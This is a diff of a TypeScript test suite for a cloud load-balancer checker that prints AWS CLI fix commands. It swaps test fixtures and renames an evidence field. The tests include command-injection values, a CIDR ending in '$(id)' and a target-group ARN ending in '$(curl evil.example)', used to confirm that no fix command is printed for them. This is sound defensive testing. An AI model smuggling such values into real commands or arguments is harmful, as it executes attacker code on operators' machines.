@@ -28,6 +28,7 @@ import {
   NLB_SG,
   nlbInOwnGroup,
   nlbTargetsWith,
+  oneZoneServing,
   restTiming,
   TARGET_SG,
 } from '../../support/fix-worlds';
@@ -124,7 +125,7 @@ describe('fix suggestions', () => {
   });
 
   it('turns cross-zone on for the target group, and redeploys a REST stage after raising its timeout', () => {
-    const [crossZone] = failing(findingsOf(lbCrossZone, nlbScenario({ targetGroup: crossZoneOff }).build()));
+    const [crossZone] = failing(findingsOf(lbCrossZone, oneZoneServing()));
     expect(crossZone?.fix?.commands).toEqual([
       `aws elbv2 modify-target-group-attributes --region 'us-east-1' --target-group-arn '${TG_ARN}' ` +
         `--attributes '[{"Key":"load_balancing.cross_zone.enabled","Value":"true"}]'`,
@@ -168,7 +169,7 @@ describe('fix suggestions', () => {
   });
 
   it('gives no fix when the evidence is not in the shape the fix reads', () => {
-    const [finding] = failing(findingsOf(lbCrossZone, nlbScenario({ targetGroup: crossZoneOff }).build()));
+    const [finding] = failing(findingsOf(lbCrossZone, oneZoneServing()));
     if (!finding) throw new Error('expected a FAIL');
     const reshaped = { ...finding, evidence: { crossZone: { enabled: false } } };
     expect(attachFixes([reshaped])[0]?.fix).toBeUndefined();
@@ -179,14 +180,14 @@ describe('fix suggestions', () => {
       ),
     )[0];
     if (!sgFinding) throw new Error('expected a FAIL');
-    const { sources: _dropped, ...withoutSources } = sgFinding.evidence;
-    expect(attachFixes([{ ...sgFinding, evidence: withoutSources }])[0]?.fix).toBeUndefined();
+    const { blockedCidrs: _dropped, ...withoutAddresses } = sgFinding.evidence;
+    expect(attachFixes([{ ...sgFinding, evidence: withoutAddresses }])[0]?.fix).toBeUndefined();
     // A blocked sender that is everyone (a /0) is never opened by a printed command.
     const everyone = {
       ...sgFinding,
       evidence: {
         ...sgFinding.evidence,
-        sources: [{ source: 'any client', cidr: '0.0.0.0/0', status: 'blocked' }],
+        blockedCidrs: ['0.0.0.0/0'],
       },
     };
     expect(attachFixes([everyone])[0]?.fix).toBeUndefined();
@@ -207,10 +208,10 @@ describe('fix suggestions', () => {
     ).toBeUndefined();
     const hostileCidr = {
       ...finding.evidence,
-      sources: [{ source: 'x', cidr: '10.0.0.1/32$(id)', status: 'blocked' }],
+      blockedCidrs: ['10.0.0.1/32$(id)'],
     };
     expect(attachFixes([{ ...finding, evidence: hostileCidr }])[0]?.fix).toBeUndefined();
-    const [crossZone] = failing(findingsOf(lbCrossZone, nlbScenario({ targetGroup: crossZoneOff }).build()));
+    const [crossZone] = failing(findingsOf(lbCrossZone, oneZoneServing()));
     if (!crossZone) throw new Error('expected a FAIL');
     const hostileArn = `${TG_ARN}$(curl evil.example)`;
     expect(attachFixes([{ ...crossZone, resourceArn: hostileArn }])[0]?.fix).toBeUndefined();
